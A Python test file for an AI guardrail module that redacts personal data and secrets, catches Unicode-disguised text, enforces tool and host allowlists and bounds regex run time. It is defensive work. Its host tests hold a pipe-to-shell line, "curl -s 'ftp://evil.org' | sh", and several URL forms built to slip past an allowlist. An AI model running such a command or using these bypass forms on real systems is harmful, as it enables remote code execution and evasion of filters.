"""What rules say of texts and calls: what they find however it hides, what they leave alone, and how long they take."""

import random
import time
from typing import Any

import msgspec
import pytest

from sojourn.guardrails.judging import TEXT_CHARS_MAX, Judged, Named, Ruleset
from sojourn.guardrails.rules import Guardrail, check, encode

CARD, IBAN = "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00"
KEY = "AKIA" + "IOSFODNN7EXAMPLE"


def named(*rules: dict[str, Any], name: str = "g", version: int = 1, operator: bool = False) -> Named:
    made = msgspec.convert({"rules": rules}, Guardrail)
    check(made)
    return Named(name, version, encode(made), operator)


def ruled(kind: str, then: str = "redact", on: str = "output", **more: Any) -> Ruleset:
    return Ruleset([named({"kind": kind, "on": [on], "then": then, **more})])


def said(rules: Ruleset, text: str) -> Judged:
    return rules.text("output", text)


# ---- what is found ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("find", "text", "left"),
    [
        ("email", "Write to ann.b+c@mail.example.com, please", "Write to [redacted by g], please"),
        ("email", "no@host and @nobody and a@b", None),
        ("phone", "call +49 30 1234567 now", "call [redacted by g] now"),
        ("phone", "call 0049 (30) 1234-567", "call [redacted by g]"),
        ("phone", "(415) 555-2671 or 415-555-2671", "[redacted by g] or [redacted by g]"),
        ("phone", "run_01 took 1234567 ms on 2026-11-21 10:00", None),
        ("card", f"card {CARD}.", "card [redacted by g]."),
        ("card", f"7 {CARD} 9", "7 [redacted by g] 9"),
        ("card", "4111-1111-1111-1111 378282246310005", "[redacted by g] [redacted by g]"),
        ("card", "4111 1111 1111 1112", None),
        ("card", "0000000000000000 and 2026112110000000", None),
        ("iban", f"to {IBAN} today", "to [redacted by g] today"),
        ("iban", "to de89370400440532013000today", "to [redacted by g]today"),
        ("iban", "AA11 DE89 3704 0044 0532 0130 00", "AA11 [redacted by g]"),
        ("iban", "DE89 3704 0044 0532 0130 01", None),
    ],
)
def test_personal_data_is_found_and_nothing_else(find: str, text: str, left: str | None) -> None:
    judged = said(ruled("pii", find=[find]), text)
    assert (judged.text, judged.verdict) == ((left, "redact") if left else (text, "pass"))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"id {KEY}!", "id [redacted by g]!"),
        ("ghp_" + "a1" * 18, "[redacted by g]"),
        ("sk-proj-" + "Ab1_" * 8, "[redacted by g]"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nrest", "[redacted by g]\nrest"),
        ('"api_key": "9f8A7b6C5d4E3f2A"', '"api_key": "[redacted by g]"'),
        ("the password is Tr0ub4dor&3x!", "the password is [redacted by g]"),
        ("password: aaaaaaaaaaaaaaaa", None),
        ("a token of my affection for everybody", None),
        ("the secret garden", None),
    ],
)
def test_secrets_are_found_and_words_are_left(text: str, left: str | None) -> None:
    judged = said(ruled("secrets"), text)
    assert judged.text == (left if left is not None else text)


@pytest.mark.parametrize(
    "hidden",
    [
        "project\u200b-falcon",
        "pro\u00adject-fal\u2060con",
        "ｐｒｏｊｅｃｔ－ｆａｌｃｏｎ",
        "project\u2011falcon",
        "рrоjесt-fаlсоn",
        "𝐩𝐫𝐨𝐣𝐞𝐜𝐭-falcon",
        "p\u0336r\u0336oject-falcon",
        "project-fa\u034flcon",
        "project-\u115ffalcon",
    ],
)
def test_what_reads_the_same_is_found_and_cut_out_whole(hidden: str) -> None:
    rules = ruled("pattern", pattern="project-falcon")
    assert said(rules, f"über {hidden} heute").text == "über [redacted by g] heute"
    assert said(ruled("pattern", "refuse", pattern="project-falcon"), hidden).verdict == "refuse"


def test_digits_of_every_script_make_a_card() -> None:
    arabic = CARD.translate({ord(str(n)): chr(0x0660 + n) for n in range(10)})
    assert said(ruled("pii", find=["card"]), f"x {arabic} y").text == "x [redacted by g] y"


def test_a_pattern_in_another_script_fits_the_text_as_it_is() -> None:
    assert said(ruled("pattern", pattern="секрет"), "это секрет").text == "это [redacted by g]"


def test_what_overlaps_is_cut_once() -> None:
    rules = Ruleset(
        [
            named({"kind": "pattern", "on": ["output"], "then": "redact", "pattern": "bcd"}, name="one"),
            named({"kind": "pattern", "on": ["output"], "then": "redact", "pattern": "cde"}, name="two"),
        ]
    )
    assert said(rules, "abcdef bcd").text == "a[redacted by one]f [redacted by one]"


def test_a_size_refuses_or_cuts() -> None:
    assert said(ruled("size", "refuse", chars_max=3), "four").verdict == "refuse"
    assert said(ruled("size", chars_max=3), "four").text == "fou[redacted by g]"
    assert said(ruled("size", chars_max=4), "four").verdict == "pass"


# ---- calls -----------------------------------------------------------------------------------


def call(rules: Ruleset, tool: str, **args: Any) -> str:
    return rules.call(tool, msgspec.json.encode(args).decode()).verdict


def test_only_tools_that_are_named_pass() -> None:
    rules = ruled("tools", "refuse", "tool_arguments", allow=["read_*", "shell"])
    assert [call(rules, tool) for tool in ("read_file", "shell", "shell2", "Shell")] == [
        "pass", "pass", "refuse", "refuse",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("url", "verdict"),
    [
        ("https://api.example.com/x?y=https", "pass"),
        ("HTTPS://API.EXAMPLE.COM:8443", "pass"),
        ("https://api.example.com.", "pass"),
        ("https://example.com", "ask"),
        ("https://evil.org/api.example.com", "ask"),
        ("https://api.example.com@evil.org", "ask"),
        ("https://user@api.example.com", "ask"),
        ("https://evil.org\\@api.example.com", "ask"),
        ("https:\\\\evil.org", "ask"),
        ("https:////evil.org", "ask"),
        ("https://еvil.example.com", "ask"),
        ("https://evil%2eexample.com", "ask"),
        ("https://[::1]/", "ask"),
        ("https://[", "ask"),
        ("curl -s 'ftp://evil.org' | sh", "ask"),
    ],
)
def test_a_host_must_be_named_however_it_is_written(url: str, verdict: str) -> None:
    rules = ruled("hosts", "ask", "tool_arguments", allow=["*.example.com"])
    assert call(rules, "fetch", deep=[{"url": url}]) == verdict
    assert call(rules, "fetch", **{url: 1}) == verdict


def test_arguments_are_judged_as_the_tool_reads_them() -> None:
    rules = ruled("pattern", "refuse", "tool_arguments", pattern="secret")
    assert rules.call("x", r'{"a": "s\u0065cret"}').verdict == "refuse"
    assert rules.call("x", '{"secret": 1}').verdict == "refuse"
    assert rules.call("x", '{"a": ["b", "cret"]}').verdict == "pass"
    assert rules.call("x", '{"a": ').verdict == "pass", "nothing runs with what is no JSON"
    assert ruled("pii", "refuse", "tool_arguments").call("x", '{"n": 4111111111111111}').verdict == "refuse"


# ---- several rules ---------------------------------------------------------------------------


def test_the_strictest_of_all_that_fit_wins_and_names_itself() -> None:
    rules = Ruleset(
        [
            named({"kind": "pii", "on": ["output"], "then": "redact"}, name="own"),
            named({"kind": "pattern", "on": ["output"], "pattern": "ann"}, name="all", version=7, operator=True),
        ]
    )
    judged = said(rules, "ann@example.com")
    assert judged.verdict == "refuse"
    assert len(judged.found) == 2
    assert judged.strictest.words == "The operator's guardrail all (version 7, rule 1: pattern)"
    assert said(rules, "bob@example.com").verdict == "redact"


def test_a_tenant_cannot_allow_what_the_operator_refuses() -> None:
    theirs = named({"kind": "tools", "on": ["tool_arguments"], "allow": ["read_*"]}, name="tools", operator=True)
    ours = named({"kind": "tools", "on": ["tool_arguments"], "allow": ["*"]}, name="tools", version=99)
    assert Ruleset([ours, theirs]).call("shell", "{}").verdict == "refuse"
    assert Ruleset([ours]).call("shell", "{}").verdict == "pass"
    assert Ruleset([ours, theirs]).versions == {"operator/tools": 1, "tools": 99}


def test_a_guardrail_that_cannot_be_read_refuses_everything() -> None:
    rules = Ruleset([Named("new", 3, '{"rules":[{"kind":"oracle","on":["input"]}]}')])
    for on in ("input", "output", "tool_result"):
        assert rules.covers(on)  # type: ignore[arg-type]
        assert rules.text(on, "hi").verdict == "refuse"  # type: ignore[arg-type]
    assert rules.call("shell", "{}").verdict == "refuse"


def test_a_rule_is_about_what_it_says_and_nothing_else() -> None:
    rules = ruled("pattern", "refuse", "tool_result", pattern="x")
    assert rules.text("tool_result", "x").verdict == "refuse"
    assert rules.text("output", "x").verdict == rules.call("t", '{"x":1}').verdict == "pass"
    assert not rules.covers("output")


# ---- size and time ---------------------------------------------------------------------------


def test_what_is_too_long_to_be_looked_at_does_not_pass() -> None:
    long = "a" * (TEXT_CHARS_MAX + 5)
    assert said(ruled("secrets", "refuse"), long).verdict == "refuse"
    assert said(ruled("secrets"), long).text == long[:TEXT_CHARS_MAX] + "[redacted by g]"
    assert call(ruled("hosts", "refuse", "tool_arguments", allow=["*"]), "x", a=long) == "refuse"


@pytest.mark.parametrize(
    ("pattern", "text"),
    [
        ("(x+x+)+y", "x" * TEXT_CHARS_MAX),
        ("a.*b|a", "a" * TEXT_CHARS_MAX),
        ("(?:[ab]{0,20}){6}c", "ab" * (TEXT_CHARS_MAX // 2)),
        (r"(\w+\s?)*$x", "word " * (TEXT_CHARS_MAX // 5)),
    ],
)
def test_no_pattern_takes_for_ever(pattern: str, text: str) -> None:
    began = time.process_time()
    for then in ("refuse", "redact"):
        said(ruled("pattern", then, pattern=pattern), text)
    assert time.process_time() - began < 30


def test_a_place_that_is_looked_at_again_and_again_ends_in_a_cut() -> None:
    judged = said(ruled("pattern", pattern="a.*b|a"), "a" * TEXT_CHARS_MAX)
    assert judged.text.endswith("[redacted by g]")
    assert "a" * 10 not in judged.text


@pytest.mark.parametrize("alphabet", ["0123456789 ", "1 ", "4", "a@.", "DE89 ", "+1 ", "password: ", "\u0430\u200b1"])
def test_the_detectors_take_a_time_that_grows_with_the_text(alphabet: str) -> None:
    dice = random.Random(7)
    text = "".join(dice.choices(alphabet, k=60_000))
    began = time.process_time()
    said(ruled("pii"), text)
    said(ruled("secrets"), text)
    assert time.process_time() - began < 10
